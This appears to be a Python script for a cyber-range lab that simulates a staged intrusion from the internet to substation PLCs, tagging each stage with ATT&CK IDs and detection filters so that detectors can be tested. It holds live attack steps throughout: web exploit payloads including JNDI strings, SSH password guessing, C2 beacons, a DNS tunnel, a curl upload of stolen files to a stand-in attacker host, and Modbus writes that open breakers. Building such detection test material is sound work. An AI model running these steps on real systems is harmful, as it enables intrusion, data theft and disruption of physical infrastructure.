"""An intrusion from the internet to a PLC by way of two stepping stones, amid benign traffic of the same kinds.

    attacker ──ssh──▶ web (DMZ) ──ssh──▶ ews (control centre) ──Modbus──▶ plc1 (substation)
"""

import contextlib
import threading
import time

from lab import servers, truth as record
from lab.people import SSH

DESCRIPTION = ("An intruder scans the DMZ, probes the web server, guesses an SSH password on it, controls it by HTTPS and "
               "DNS, goes on by SSH to the engineering workstation in the control centre, and from there reads, writes and "
               "restarts PLCs in the substation by Modbus; ends with an upload of what was collected.")

ATTACKER, ATTACKER6 = "198.51.100.66", "2001:db8:66::66"
WEB, WEB6 = "10.20.0.10", "2001:db8:20:20::10"
C2, C2_NAMES, C2_6 = "203.0.113.99", "203.0.113.98", "2001:db8:99::99"
RESOLVER = "10.20.0.53"
EWS = "10.40.0.40"
PLCS = ["10.50.0.11", "10.50.0.12", "10.50.0.13"]

# Guessed in this order; the right one is the last but a few.
PASSWORDS = ("123456 password webadmin admin letmein qwerty Welcome1 Passw0rd! changeme P@ssw0rd Summer2025 Summer2025! "
             "Autumn2025 Autumn2025! Winter2025 Winter2025! Spring2026 Spring2026! Summer2026 Summer2026! Autumn2026 "
             "Autumn2026! Winter2026 Webadmin1 Webadmin! utility2026 Utility2026! Winter2026! Company1 monkey dragon").split()

MOZILLA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36"


def enterprise(tactic, id):
    return {"id": id, "tactic": tactic, "domain": "enterprise"}


def ics(tactic, id):
    return {"id": id, "tactic": tactic, "domain": "ics"}


def play(lab, people, truth):
    def until(second):
        time.sleep(max(0, truth.started + second - time.time()))

    until(20)
    reconnoitre(lab, truth)
    until(50)
    exploit(lab, truth)
    until(57)
    guess(lab, truth)
    web = foothold(lab, truth)
    servers.tunnel(lab)
    until(85)
    implants = Implants(lab, truth)
    until(100)
    with truth.stage(
            "internal-scan", "The web server scans the control centre", source=[WEB], destination=["10.40.0.0/26"],
            protocol="tcp", ports=[22, 80, 443, 502, 3389], taps=["dmz"],
            techniques=[enterprise("discovery", "T1046"), enterprise("discovery", "T1018")],
            evidence=f"ip.src == {WEB} && ip.dst == 10.40.0.0/26 && tcp.flags.syn == 1 && tcp.flags.ack == 0",
            expect="horizontal scan from the DMZ into the control centre"):
        web("nmap -sT -T4 -n -p 22,80,443,502,3389 10.40.0.1-60")
    tunnel(lab, truth)
    until(140)
    ews = lateral(web, truth)
    until(155)
    substation(ews, truth)
    until(205)
    exfiltrate(web, ews, truth)
    implants.end()
    truth.hop(ATTACKER, WEB, 22, "ssh", "foothold", "border")
    truth.hop(WEB, EWS, 22, "ssh", "lateral-ssh", "dmz")
    truth.hop(EWS, PLCS[0], 502, "modbus", "modbus-write", "substation")
    until(230)


def reconnoitre(lab, truth):
    syn = "tcp.flags.syn == 1 && tcp.flags.ack == 0"
    with truth.stage(
            "scan", "Port scan of the DMZ", source=[ATTACKER], destination=[WEB, "10.20.0.25", RESOLVER], protocol="tcp",
            ports=[], techniques=[enterprise("reconnaissance", "T1595.001"), enterprise("discovery", "T1046")],
            taps=["border", "dmz"], evidence=f"ip.src == {ATTACKER} && {syn}",
            expect="vertical scan of each of three hosts, 200 ports each"):
        lab.must("attacker", ["nmap", "-sS", "-n", "-Pn", "--max-rate", "90", "--top-ports", "200", WEB, "10.20.0.25",
                              RESOLVER])
    with truth.stage(
            "scan-ipv6", "Port scan of the web server by IPv6", source=[ATTACKER6], destination=[WEB6], protocol="tcp",
            ports=[], techniques=[enterprise("reconnaissance", "T1595.001"), enterprise("discovery", "T1046")],
            taps=["border", "dmz"], evidence=f"ipv6.src == {ATTACKER6} && {syn}", expect="vertical scan, 100 ports"):
        lab.must("attacker", ["nmap", "-6", "-sS", "-n", "-Pn", "--max-rate", "60", "--top-ports", "100", WEB6])
    with truth.stage(
            "fingerprint", "Service detection on the web server", source=[ATTACKER], destination=[WEB], protocol="http",
            ports=[22, 80, 443], techniques=[enterprise("reconnaissance", "T1595.002")], taps=["border", "dmz"],
            evidence=f'ip.src == {ATTACKER} && http.user_agent contains "Nmap"', expect="user agent of a scanner"):
        lab.must("attacker", ["nmap", "-sV", "-n", "-Pn", "--script", "http-title,http-headers,ssh-hostkey,ssl-cert", "-p",
                              "22,80,443", WEB])


def exploit(lab, truth):
    with truth.stage(
            "web-exploit", "Exploitation attempts against the web server", source=[ATTACKER], destination=[WEB],
            protocol="http", ports=[80], techniques=[enterprise("initial-access", "T1190")], taps=["border", "dmz"],
            evidence=f"ip.src == {ATTACKER} && ip.dst == {WEB} && http.request",
            expect="path traversal, SQL injection and JNDI strings in requests, each a rule of its own"):
        curl = ["curl", "-s", "-o", "/dev/null", "-m", "10", "-A", MOZILLA]
        jndi = "${jndi:ldap://203.0.113.99:1389/a}"
        for arguments in (
                ["--path-as-is", f"http://{WEB}/../../../../etc/passwd"],
                ["--path-as-is", f"http://{WEB}/files/..%2f..%2f..%2f..%2fetc%2fpasswd"],
                ["--path-as-is", f"http://{WEB}/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "-d", "echo; id"],
                [f"http://{WEB}/search?q=1%27%20OR%20%271%27=%271"],
                [f"http://{WEB}/news?id=1%20UNION%20SELECT%20user,password%20FROM%20users--"],
                [f"http://{WEB}/api/meter?id=1;WAITFOR%20DELAY%20%270:0:5%27--"],
                ["-A", jndi, f"http://{WEB}/"],
                ["-H", f"X-Api-Version: {jndi}", f"http://{WEB}/api/session"],
                ["-A", "${${lower:j}ndi:${lower:l}dap://203.0.113.99/b}", f"http://{WEB}/login"],
                [f"http://{WEB}/shell.php?cmd=id"],
                [f"http://{WEB}/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"],
                [f"http://{WEB}/.git/config"],
                [f"http://{WEB}/.env"],
                ["-X", "TRACE", f"http://{WEB}/"],
                ["-A", "sqlmap/1.8#stable (https://sqlmap.org)", f"http://{WEB}/search?q=1%20AND%201=1"]):
            lab.run("attacker", curl + arguments)
            time.sleep(0.4)


def guess(lab, truth):
    def hydra(user, passwords, patience):
        path = lab.dir / f"passwords-{user}"
        path.write_text("\n".join(passwords) + "\n")
        # Eight at a time: each connection has a guess or four, as many as the server allows.
        return lab.run("attacker", ["timeout", str(patience), "hydra", "-I", "-f", "-t", "8", "-l", user, "-P", str(path),
                                    "-o", "/dev/null", f"ssh://{WEB}"]).stdout

    with truth.stage(
            "ssh-guess", "SSH password guessing on the web server, with success", source=[ATTACKER], destination=[WEB],
            protocol="ssh", ports=[22], techniques=[enterprise("credential-access", "T1110.001")], taps=["border", "dmz"],
            evidence=f"ip.src == {ATTACKER} && ip.dst == {WEB} && ssh.protocol",
            expect="many connections with failed authentication, then one that succeeds"):
        for user in ("root", "admin"):
            hydra(user, PASSWORDS[:20], patience=8)
            time.sleep(2)
        found = hydra("webadmin", PASSWORDS, patience=60)
        if "password: Winter2026!" not in found:
            raise RuntimeError(f"hydra found no password:\n{found}")


def foothold(lab, truth):
    """Logs in to the web server with the found password. Gives a function that runs a command there."""
    control = f"{lab.dir}/attacker.ctl"
    with truth.stage(
            "foothold", "Login to the web server with the guessed password", source=[ATTACKER], destination=[WEB],
            protocol="ssh", ports=[22], taps=["border", "dmz"],
            techniques=[enterprise("initial-access", "T1078"), enterprise("initial-access", "T1133")],
            evidence=f"ip.src == {ATTACKER} && ip.dst == {WEB} && ssh.protocol contains \"OpenSSH\"",
            expect="successful login from an address that has just guessed passwords"):
        lab.start("attacker", ["sshpass", "-p", "Winter2026!", *SSH, "-M", "-S", control, "-N", f"webadmin@{WEB}"])
        while lab.run("attacker", [*SSH, "-S", control, "-O", "check", WEB]).returncode != 0:
            time.sleep(0.2)
        lab.must("attacker", [*SSH, "-S", control, f"webadmin@{WEB}", "id; uname -a; ip addr; ls -la; ps ax | head"])

    def web(command):
        return lab.must("attacker", [*SSH, "-S", control, f"webadmin@{WEB}", command])

    return web


class Implants:
    """The programs on the web server that call home at regular intervals until the end."""

    def __init__(self, lab, truth):
        self.lab, self.stop = lab, threading.Event()
        self.stages = contextlib.ExitStack()
        for stage in BEACONS:
            self.stages.enter_context(truth.stage(**stage))
        dice = lab.random("implants")
        https = ["curl", "-sk", "-o", "/dev/null", "-m", "5", "-A", "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)",
                 "https://cdn-metrics.example/api/status"]

        def look_up(n):
            label = f"{n:04x}{dice.getrandbits(160):040x}.{dice.getrandbits(120):030x}"
            return ["dig", "+short", "+tries=1", "+timeout=2", f"{label}.b.cdn-metrics.example"]

        self.threads = [threading.Thread(target=self.every, args=args, daemon=True) for args in (
            (5, lambda n: https + ["-4"]), (12, lambda n: https + ["-6"]), (4, look_up))]
        for thread in self.threads:
            thread.start()

    def every(self, seconds, argv):
        began, n = time.monotonic(), 0
        while not self.stop.wait(max(0, began + n * seconds - time.monotonic())):
            self.lab.run("web", argv(n))
            n += 1

    def end(self):
        self.stop.set()
        for thread in self.threads:
            thread.join()
        self.stages.close()


BEACONS = [
    dict(id="beacon-https", title="HTTPS beacon every 5 s", source=[WEB], destination=[C2], protocol="tls", ports=[443],
         techniques=[enterprise("command-and-control", "T1071.001"), enterprise("command-and-control", "T1573")],
         taps=["border", "dmz"], evidence=f"ip.src == {WEB} && ip.dst == {C2} && tls.handshake.type == 1",
         expect="regular interval to one rare host; listed domain and address; server that opens connections to the internet"),
    dict(id="beacon-https-ipv6", title="HTTPS beacon every 12 s by IPv6", source=[WEB6], destination=[C2_6], protocol="tls",
         ports=[443], techniques=[enterprise("command-and-control", "T1071.001"), enterprise("command-and-control", "T1573")],
         taps=["border", "dmz"], evidence=f"ipv6.dst == {C2_6} && tls.handshake.type == 1",
         expect="listed IPv6 prefix; regular interval"),
    dict(id="beacon-dns", title="DNS beacon every 4 s, data in the labels", source=[WEB, RESOLVER],
         destination=[RESOLVER, C2_NAMES], protocol="dns", ports=[53], transport="udp",
         techniques=[enterprise("command-and-control", "T1071.004")], taps=["border", "dmz"],
         evidence='dns.flags.response == 0 && dns.qry.name contains ".b.cdn-metrics.example"',
         expect="long random labels below one domain, no name twice; the border sees them from the resolver only"),
]


def tunnel(lab, truth):
    with truth.stage(
            "dns-tunnel", "IP tunnel through DNS (iodine)", source=[WEB, RESOLVER], destination=[RESOLVER, C2], protocol="dns",
            ports=[53], transport="udp",
            techniques=[enterprise("command-and-control", "T1572"), enterprise("exfiltration", "T1048.003")],
            taps=["border", "dmz"], evidence='dns.flags.response == 0 && dns.qry.name contains ".t.cdn-metrics.example"',
            expect="many unique long names of unusual types below one domain"):
        client = lab.start("web", ["iodine", "-f", "-r", "-P", "sesame", "-T", "TXT", "-M", "200", "-m", "400", RESOLVER,
                                   "t.cdn-metrics.example"])
        for _ in range(40):
            time.sleep(0.5)
            if lab.run("web", ["ping", "-c", "1", "-W", "2", "10.99.0.1"]).returncode == 0:
                break
        else:
            raise RuntimeError("the DNS tunnel did not come up\n" + (lab.dir / "log/web.log").read_text())
        lab.run("web", ["curl", "-s", "-m", "20", "-o", "/dev/null", "http://10.99.0.1/files/logo.png"])
        lab.run("web", ["curl", "-s", "-m", "20", "-o", "/dev/null", "--data-binary", f"@{lab.dir}/www/web/files/logo.png",
                        "http://10.99.0.1/upload"])
        client.terminate()
        client.wait()


def lateral(web, truth):
    """Goes on to the engineering workstation, from the web server. Gives a function that runs a command there."""
    with truth.stage(
            "lateral-ssh", "Login from the web server to the engineering workstation", source=[WEB], destination=[EWS],
            protocol="ssh", ports=[22], taps=["dmz"],
            techniques=[enterprise("lateral-movement", "T1021.004"), enterprise("lateral-movement", "T1078")],
            evidence=f"ip.src == {WEB} && ip.dst == {EWS} && ssh.protocol",
            expect="SSH from the DMZ into the control centre, which nobody does; a login within a login"):
        ssh = " ".join(SSH)
        web(f"setsid sshpass -p Feeder-7 {ssh} -M -S ~/.ctl -N operator@{EWS} </dev/null >/dev/null 2>&1 & "
            f"until {ssh} -S ~/.ctl -O check {EWS} 2>/dev/null; do sleep 0.2; done")

        def ews(command):
            return web(f"{ssh} -S ~/.ctl operator@{EWS} '{command}'")

        ews("id; ip addr; ip route; ls -la")
    return ews


def substation(ews, truth):
    def stage(id, title, tactics, evidence, expect, plcs, protocol="modbus", ports=(502,)):
        return truth.stage(id, title, source=[EWS], destination=plcs, protocol=protocol, ports=list(ports),
                           taps=["substation"], techniques=[ics(*t) for t in tactics], expect=expect,
                           evidence=f"ip.src == {EWS} && ip.dst == 10.50.0.0/24 && ({evidence})")

    def intruder(what, plc):
        ews(f"PYTHONPATH=/run/tocsin-range/site python3 /run/tocsin-range/programs/intruder.py {what} {plc}")

    with stage("modbus-scan", "The engineering workstation looks for PLCs",
               [("discovery", "T0846"), ("discovery", "T0840")], "tcp.flags.syn == 1 && tcp.flags.ack == 0",
               "scan of the ports of control protocols in the substation", ["10.50.0.0/27"], protocol="tcp",
               ports=[102, 502, 2404, 20000, 44818]):
        ews("nmap -sT -n -Pn --max-rate 40 --max-retries 0 -p 102,502,2404,20000,44818 10.50.0.1-30")
    time.sleep(3)
    with stage("modbus-identify", "Reads what the PLCs are", [("discovery", "T0888")],
               "modbus.func_code == 43 || modbus.func_code == 17",
               "device identification (function 43/14) and server id (function 17) from a host that never asked before", PLCS):
        for plc in PLCS:
            intruder("identify", plc)
    time.sleep(3)
    with stage("modbus-read", "Reads all registers and coils", [("collection", "T0861"), ("collection", "T0801")],
               "modbus.func_code in {1, 2, 3, 4}", "reads over the whole range, with exceptions behind its end", PLCS[:2]):
        for plc in PLCS[:2]:
            intruder("sweep", plc)
    time.sleep(3)
    with stage("modbus-write", "Opens breakers and changes setpoints",
               [("impair-process-control", "T0855"), ("impair-process-control", "T0836")],
               "modbus.func_code in {5, 6, 15, 16, 22}", "writes from a host that is not the HMI", PLCS[:2]):
        for plc in PLCS[:2]:
            intruder("write", plc)
    time.sleep(3)
    with stage("modbus-restart", "Restarts the communication of a PLC",
               [("inhibit-response-function", "T0816"), ("inhibit-response-function", "T0814")],
               "modbus.func_code == 8", "diagnostics, restart communications (function 8/1)", PLCS[:1]):
        intruder("restart", PLCS[0])


def exfiltrate(web, ews, truth):
    with truth.stage(
            "staging", "Collected files go from the workstation to the web server", source=[WEB], destination=[EWS],
            protocol="ssh", ports=[22], taps=["dmz"],
            techniques=[enterprise("collection", "T1074.002"), enterprise("lateral-movement", "T1570")],
            evidence=f"ip.src == {EWS} && ip.dst == {WEB} && tcp.srcport == 22 && tcp.len > 1000",
            expect="some hundred kilobytes from the control centre to the DMZ", must_detect=False):
        ews("head -c 400000 /dev/urandom > project.zip")
        web(f"{' '.join(SSH)} -S ~/.ctl operator@{EWS} cat project.zip > project.zip")
    with truth.stage(
            "exfiltration", "Upload of the collected files by HTTP", source=[WEB], destination=[C2], protocol="http",
            ports=[80], taps=["border", "dmz"],
            techniques=[enterprise("exfiltration", "T1041"), enterprise("exfiltration", "T1048.003")],
            evidence=f"ip.src == {WEB} && ip.dst == {C2} && tcp.dstport == 80 && tcp.len > 1000",
            expect="a server sends far more than it gets, to a listed host"):
        web("curl -4 -s -m 30 -A python-requests/2.32 -H Content-Type:application/octet-stream --data-binary @project.zip "
            "http://cdn-metrics.example/upload/7f3a")


def write(folder):
    reference = "example list of the recorded intrusion"
    record.reputation(folder, [
        ("domain", "cdn-metrics.example", 90, reference),
        ("ipv4", "203.0.113.98/31", 80, reference),
        ("ipv6", "2001:db8:99::/64", 75, reference),
        ("domain", "never-seen.example", 60, "not in the recording"),
        ("ipv4", "198.51.100.200", 40, "not in the recording"),
    ])
